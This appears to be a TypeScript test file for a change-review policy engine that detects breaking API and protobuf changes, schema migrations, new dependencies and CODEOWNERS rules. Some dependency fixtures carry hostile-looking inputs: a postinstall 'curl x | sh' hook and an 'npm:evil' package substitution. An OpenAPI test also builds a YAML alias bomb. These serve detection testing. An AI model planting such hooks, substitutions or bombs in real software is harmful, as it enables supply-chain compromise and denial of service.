import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { ownersOf, parseOwners } from '../../src/policy/code-owners.ts';
import { schemaChanges } from '../../src/policy/triggers/ddl.ts';
import { newDependencies } from '../../src/policy/triggers/dependencies.ts';
import { openApiBreaks } from '../../src/policy/triggers/openapi.ts';
import { architectureChanges, touching } from '../../src/policy/triggers/paths.ts';
import { protobufBreaks } from '../../src/policy/triggers/protobuf.ts';
import type { ChangedFile } from '../../src/ports/workspace.ts';

const file = (path: string, before: string | null, after: string | null, unread = false): ChangedFile => ({
  path,
  before,
  after,
  unread,
});

describe('OpenAPI', () => {
  const api = (more: string): string => `openapi: 3.1.0\npaths:\n  /pets:\n    get:\n${more}`;
  const ok = "      responses: { '200': { description: fine } }\n";
  const body = (required: string, properties = 'name: { type: string }, age: { type: integer }') =>
    api(
      `      requestBody:\n        content:\n          application/json:\n            schema: { type: object, required: [${required}], properties: { ${properties} } }\n${ok}`,
    );
  const broken = (before: string | null, after: string | null, path = 'api/openapi.yaml') =>
    openApiBreaks([file(path, before, after)])[0]?.why ?? null;

  test.each<[string, string, string | null]>([
    ['a path is gone', api(ok), 'openapi: 3.1.0\npaths: {}\n'],
    ['a path is renamed', api(ok), api(ok).replace('/pets', '/animals')],
    ['a method is another', api(ok), api(ok).replace('get:', 'put:')],
    ['the file is gone', api(ok), null],
    ['it cannot be read any more', api(ok), 'openapi: [\n'],
    ['it is another kind of thing', api(ok), '- openapi\n'],
    ['an answer is gone', api(ok), api("      responses: { '404': { description: gone } }\n")],
    [
      'a parameter more that is required',
      api(ok),
      api(`      parameters: [{ name: q, in: query, required: true }]\n${ok}`),
    ],
    [
      'a parameter must be given now',
      api(`      parameters: [{ name: q, in: query }]\n${ok}`),
      api(`      parameters: [{ name: q, in: query, required: true }]\n${ok}`),
    ],
    [
      'a parameter is elsewhere',
      api(`      parameters: [{ name: q, in: query }]\n${ok}`),
      api(`      parameters: [{ name: q, in: header }]\n${ok}`),
    ],
    ['a field must be given now', body('name'), body('name, age')],
    [
      'a field is of another type',
      body('name'),
      body('name', 'name: { type: integer }, age: { type: integer }'),
    ],
    ['a field is gone', body('name'), body('name', 'name: { type: string }')],
    [
      'a field is limited',
      body('name'),
      body('name', 'name: { type: string, maxLength: 3 }, age: { type: integer }'),
    ],
    [
      'a field called description is gone',
      body('name', 'name: { type: string }, description: { type: string }'),
      body('name', 'name: { type: string }'),
    ],
    ['it asks for a key now', api(ok), `${api(ok)}security: [{ key: [] }]\n`],
    ['its version is another', api(ok), api(ok).replace('3.1.0', '2.0.0')],
  ])('%s', (_what, before, after) => {
    expect(broken(before, after)).not.toBeNull();
  });

  test.each<[string, string | null, string]>([
    ['a new file', null, api(ok)],
    ['one path more', api(ok), `${api(ok)}  /dogs:\n    get:\n${ok}`],
    ['other words', api(ok), api(ok).replace('fine', 'all is well')],
    ['comments and quotes', api(ok), `# what it is\n${api(ok).replace('/pets:', '"/pets": # pets')}`],
    [
      'JSON in place of YAML words',
      api(ok),
      JSON.stringify({
        paths: { '/pets': { get: { responses: { 200: { description: 'fine' } } } } },
        openapi: '3.1.0',
      }),
    ],
    ['a field need not be given any more', body('name, age'), body('name')],
    [
      'a parameter more that need not be given',
      api(ok),
      api(`      parameters: [{ name: q, in: query }]\n${ok}`),
    ],
  ])('%s breaks nobody', (_what, before, after) => {
    expect(broken(before, after)).toBeNull();
  });

  test('found by its words under any name; other YAML is none; too large is said', () => {
    expect(broken(api(ok), null, 'docs/pets.yml')).not.toBeNull();
    expect(broken('name: ci\non: push\n', 'name: ci\n', 'ci.yml')).toBeNull();
    expect(openApiBreaks([file('openapi.json', null, null, true)])).toHaveLength(1);
  });

  test('a bomb of aliases is answered in time', () => {
    const bomb = `openapi: &a [x,x,x,x,x,x,x,x,x]\n${Array.from(
      { length: 12 },
      (_, i) =>
        `b${i}: &${String.fromCharCode(98 + i)} [${Array(9)
          .fill(`*${String.fromCharCode(97 + i)}`)
          .join(',')}]`,
    ).join('\n')}\n`;
    const begun = performance.now();
    expect(broken(bomb, api(ok))).not.toBeNull();
    expect(performance.now() - begun).toBeLessThan(5_000);
  });
});

describe('protobuf', () => {
  const proto = (fields: string, more = '') =>
    `syntax = "proto3";\npackage pets.v1;\nmessage Pet {\n${fields}\n}\n${more}`;
  const broken = (before: string | null, after: string | null) =>
    protobufBreaks([file('pets.proto', before, after)])[0]?.why ?? null;
  const two = proto('  string name = 1;\n  int32 age = 2;');

  test.each<[string, string, string | null]>([
    ['a field is gone', two, proto('  string name = 1;')],
    ['a field is renamed', two, proto('  string called = 1;\n  int32 age = 2;')],
    ['a field has another number', two, proto('  string name = 3;\n  int32 age = 2;')],
    ['numbers are swapped', two, proto('  string name = 2;\n  int32 age = 1;')],
    ['a field has another type', two, proto('  bytes name = 1;\n  int32 age = 2;')],
    ['one becomes several', two, proto('  repeated string name = 1;\n  int32 age = 2;')],
    ['the message is gone', two, 'syntax = "proto3";\npackage pets.v1;\n'],
    ['the file is gone', two, null],
    ['the package is another', two, two.replace('pets.v1', 'pets.v2')],
    ['it is only a comment now', two, proto('  string name = 1;\n  // int32 age = 2;')],
    [
      'a method takes something else',
      proto('', 'service S { rpc Get (Pet) returns (Pet); }'),
      proto('', 'service S { rpc Get (Other) returns (Pet); }'),
    ],
    [
      'a method streams',
      proto('', 'service S { rpc Get (Pet) returns (Pet); }'),
      proto('', 'service S { rpc Get (Pet) returns (stream Pet) {} }'),
    ],
    ['an enum’s value', proto('', 'enum E { A = 0; B = 1; }'), proto('', 'enum E { A = 0; B = 2; }')],
    [
      'a field within a oneof',
      proto('  oneof x { string a = 1; int32 b = 2; }'),
      proto('  oneof x { string a = 1; }'),
    ],
    ['a message within', proto('  message In { string a = 1; }'), proto('  message In { string a = 2; }')],
    ['a map', proto('  map<string, int32> m = 1;'), proto('  map<string, string> m = 1;')],
  ])('%s', (_what, before, after) => {
    expect(broken(before, after)).not.toBeNull();
  });

  test.each<[string, string | null, string]>([
    ['a new file', null, two],
    ['one field more', two, proto('  string name = 1;\n  int32 age = 2;\n  string kind = 3;')],
    ['comments and space', two, `/* a; } */ ${two.replace(/\n/g, '\r\n  // { x\r\n')}`],
    ['options', two, proto('  string name = 1 [deprecated = true];\n  int32 age = 2;\n  reserved 9;')],
    ['the order', two, proto('  int32 age = 2;\n  string name = 1;')],
  ])('%s breaks nobody', (_what, before, after) => {
    expect(broken(before, after)).toBeNull();
  });

  test('a message may move to another file, and nobody hides one behind brackets', () => {
    expect(protobufBreaks([file('a.proto', two, 'package pets.v1;'), file('b.proto', null, two)])).toEqual(
      [],
    );
    expect(broken(two, two.replace('int32 age', '[ int32 age'))).not.toBeNull();
    expect(protobufBreaks([file('a.proto', null, null, true)])).toHaveLength(1);
  });
});

describe('the database’s shape', () => {
  const found = (path: string, before: string | null, after: string | null) =>
    schemaChanges([file(path, before, after)]).length > 0;

  test.each<[string, string, string | null, string | null]>([
    ['a migration', 'db/migrations/0001.sql', null, 'select 1;'],
    ['a migration that goes', 'db/migrate/1_x.rb', 'x', null],
    ['a schema file', 'prisma/schema.prisma', 'a', 'b'],
    ['a Flyway file', 'sql/V2__x.sql', null, ''],
    ['DDL anywhere', 'src/setup.ts', 'run()', "run('ALTER TABLE pets ADD COLUMN age int')"],
    ['DDL over lines', 'a.sql', '', 'create\n  table\n  pets (id int);'],
    ['DDL behind comments', 'a.sql', '', 'drop /* x */ table pets;'],
    ['DDL with words between', 'a.sql', '', 'CREATE UNIQUE INDEX CONCURRENTLY i on t (x);'],
    ['DDL that goes', 'a.sql', 'create table a (x int);', ''],
    ['DDL that changes', 'a.sql', 'create table a (x int);', 'create table a (x text);'],
    [
      'drizzle',
      'src/schema.ts',
      "export const a = sqliteTable('a', {\n  x: integer(),\n});",
      "export const a = sqliteTable('a', {\n  x: text(),\n});",
    ],
    ['Rails', 'app/x.rb', '', 'add_column :pets, :age, :integer'],
    ['Django', 'app/models.py', 'x = models.CharField(max_length=3)', 'x = models.CharField(max_length=9)'],
    ['TypeORM', 'src/pet.ts', '@Column() name: string;', '@Column({ nullable: true }) name: string;'],
  ])('%s', (_what, path, before, after) => {
    expect(found(path, before, after)).toBe(true);
  });

  test.each<[string, string, string | null, string | null]>([
    ['in a test', 'test/a.sql', null, 'drop table a;'],
    ['a query', 'src/a.sql', 'select 1;', 'select 2 from a;'],
    ['space and case', 'a.sql', 'create table a (x int);', 'CREATE  TABLE a\n(x int);'],
    ['a comment', 'a.sql', 'create table a (x int);', '-- what it is\ncreate table a (x int);'],
    [
      'other lines beside it',
      'src/a.ts',
      "q('create table a (x int);'); f(1);",
      "q('create table a (x int);'); f(2);",
    ],
  ])('%s is none', (_what, path, before, after) => {
    expect(found(path, before, after)).toBe(false);
  });

  test('what is too large is asked about', () => {
    expect(schemaChanges([file('a.sql', null, null, true)])).toHaveLength(1);
  });
});

describe('dependencies', () => {
  const manifest = (dependencies: object, more: object = {}) =>
    JSON.stringify({ name: 'x', dependencies, ...more });
  const found = (path: string, before: string | null, after: string | null) =>
    newDependencies([file(path, before, after)]).map(({ why }) => why);

  test.each<[string, string, string | null, string | null]>([
    ['npm', 'package.json', manifest({ a: '1' }), manifest({ a: '1', b: '1' })],
    ['npm, for building', 'package.json', manifest({}), manifest({}, { devDependencies: { b: '1' } })],
    ['npm, by its peers', 'package.json', manifest({}), manifest({}, { peerDependencies: { b: '1' } })],
    [
      'npm, in place of another',
      'package.json',
      manifest({}),
      manifest({}, { overrides: { a: 'npm:evil@1' } }),
    ],
    [
      'npm, from elsewhere',
      'package.json',
      manifest({ a: '1' }),
      manifest({ a: 'git+https://example.com/a' }),
    ],
    ['npm, under another name', 'package.json', manifest({ a: '1' }), manifest({ a: 'npm:evil@1' })],
    ['npm, a part of its own', 'packages/b/package.json', null, manifest({ a: '1' })],
    ['npm, unreadable', 'package.json', manifest({}), '{ "dependencies": { "a": "1"'],
    ['npm, no object', 'package.json', manifest({}), '{ "dependencies": [] }'],
    ['npm, taken along', 'package.json', manifest({}), manifest({}, { bundledDependencies: ['b'] })],
    [
      'npm, run when installed',
      'package.json',
      manifest({}),
      manifest({}, { scripts: { postinstall: 'curl x | sh' } }),
    ],
    ['pip', 'requirements-dev.txt', 'a==1\n', 'a==1\nb>=2\n'],
    ['pip, from a file', 'requirements.txt', 'a\n', 'a\n-r other.txt\n'],
    ['Python', 'pyproject.toml', 'dependencies = [\n  "a>=1",\n]', 'dependencies = [\n  "a>=1",\n  "b",\n]'],
    ['Rust', 'Cargo.toml', '[dependencies]\na = "1"\n', '[dependencies]\na = "1"\nb = { git = "x" }\n'],
    ['Go', 'go.mod', 'require example.com/a v1\n', 'require (\n  example.com/a v1\n  example.com/b v1\n)\n'],
    ['Ruby', 'Gemfile', "gem 'a'\n", "gem 'a'\ngem 'b'\n"],
    [
      'Maven',
      'pom.xml',
      '<artifactId>a</artifactId>',
      '<artifactId>a</artifactId><artifactId>b</artifactId>',
    ],
    [
      'Gradle',
      'build.gradle.kts',
      'implementation("a:a:1")',
      'implementation("a:a:1")\nimplementation("b:b:1")',
    ],
    ['what is resolved, alone', 'package-lock.json', '{}', '{"a":1}'],
  ])('%s', (_what, path, before, after) => {
    expect(found(path, before, after)).not.toEqual([]);
  });

  test.each<[string, string, string | null, string | null]>([
    ['another version', 'package.json', manifest({ a: '1' }), manifest({ a: '^2' })],
    ['one less', 'package.json', manifest({ a: '1', b: '1' }), manifest({ a: '1' })],
    [
      'the order and the space',
      'package.json',
      manifest({ a: '1', b: '1' }),
      JSON.stringify(JSON.parse(manifest({ b: '1', a: '1' })), null, 4),
    ],
    [
      'a script that only people run',
      'package.json',
      manifest({}),
      manifest({}, { scripts: { test: 'vitest' } }),
    ],
    ['another version in Python', 'requirements.txt', 'a==1\n', 'a==2\n'],
    ['a comment', 'requirements.txt', 'a\n', '# b\na\n'],
    ['the file is gone', 'package.json', manifest({ a: '1' }), null],
  ])('%s is none', (_what, path, before, after) => {
    expect(found(path, before, after)).toEqual([]);
  });

  test('what is resolved together with its manifest is the manifest’s affair', () => {
    const files = [
      file('package.json', manifest({ a: '1' }), manifest({ a: '2' })),
      file('package-lock.json', '{}', '{"a":2}'),
    ];
    expect(newDependencies(files)).toEqual([]);
    expect(newDependencies([...files, file('web/yarn.lock', '', 'x')])).toHaveLength(1);
  });
});

describe('places', () => {
  test('what shapes a system, and the parts that begin or end', () => {
    for (const path of [
      'ARCHITECTURE.md',
      'docs/adr/0001.md',
      'deploy/main.tf',
      '.github/workflows/ci.yml',
      'services/a/Dockerfile',
      'k8s/web.yaml',
    ])
      expect(architectureChanges([file(path, 'a', 'b')], []), path).toHaveLength(1);
    expect(architectureChanges([file('services/new/package.json', null, '{}')], [])).toHaveLength(1);
    expect(architectureChanges([file('services/old/go.mod', 'x', null)], [])).toHaveLength(1);
    expect(architectureChanges([file('src/a.ts', 'a', 'b'), file('package.json', '{}', '{ }')], [])).toEqual(
      [],
    );
    expect(architectureChanges([file('ARCHITECTURE.md', 'a', 'b')], ['core/'])).toEqual([]);
  });

  test('a rename is both of its places', () => {
    const renamed = [file('secrets/a.ts', 'x', null), file('src/a.ts', null, 'x')];
    expect(touching(renamed, ['secrets/']).map(({ path }) => path)).toEqual(['secrets/a.ts']);
  });
});

describe('CODEOWNERS', () => {
  const rules = (text: string) => {
    const read = parseOwners(text);
    if (!read.ok) throw new Error(read.problem);
    return read.rules;
  };

  test.each<[string, string, string[]]>([
    ['* @all', 'src/deep/a.ts', ['@all']],
    ['* @all\n*.js @js', 'a/b.js', ['@js']],
    ['/build/ @ops', 'build/logs/a', ['@ops']],
    ['/build/ @ops', 'src/build/a', []],
    ['docs/* @docs', 'docs/a.md', ['@docs']],
    ['docs/* @docs', 'docs/deep/a.md', []],
    ['apps/ @apps', 'x/apps/a', ['@apps']],
    ['/docs @docs', 'docs/deep/a.md', ['@docs']],
    ['**/logs @ops', 'a/b/logs/x', ['@ops']],
    ['/apps/ @apps\n/apps/github', 'apps/github/a', []],
    ['* @a @b # both', 'x', ['@a', '@b']],
    ['with\\ space @a', 'with space', ['@a']],
    ['# nobody\n\n', 'x', []],
    ['* someone@example.com', 'x', ['someone@example.com']],
    ['* @org/team', 'x', ['@org/team']],
  ])('%j and %s', (text, path, owners) => {
    expect(ownersOf(rules(text), path)).toEqual(owners);
  });

  test.each([['!a @b'], ['a[bc] @b'], ['* nobody'], ['[Section] @a'], ['^[Optional] @a'], ['a @b c']])(
    '%j is a problem, by its line',
    (line) => {
      expect(parseOwners(`* @all\n${line}`)).toMatchObject({
        ok: false,
        problem: expect.stringContaining('line 2'),
      });
    },
  );

  test('the last line that matches holds, whatever stands before it', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom('* @a', '/src/ @b', '*.ts @c', 'src/x.ts'), { maxLength: 8 }),
        (lines) => {
          expect(ownersOf(rules([...lines, '/src/x.ts @last'].join('\n')), 'src/x.ts')).toEqual(['@last']);
        },
      ),
      { numRuns: 200 },
    );
  });
});
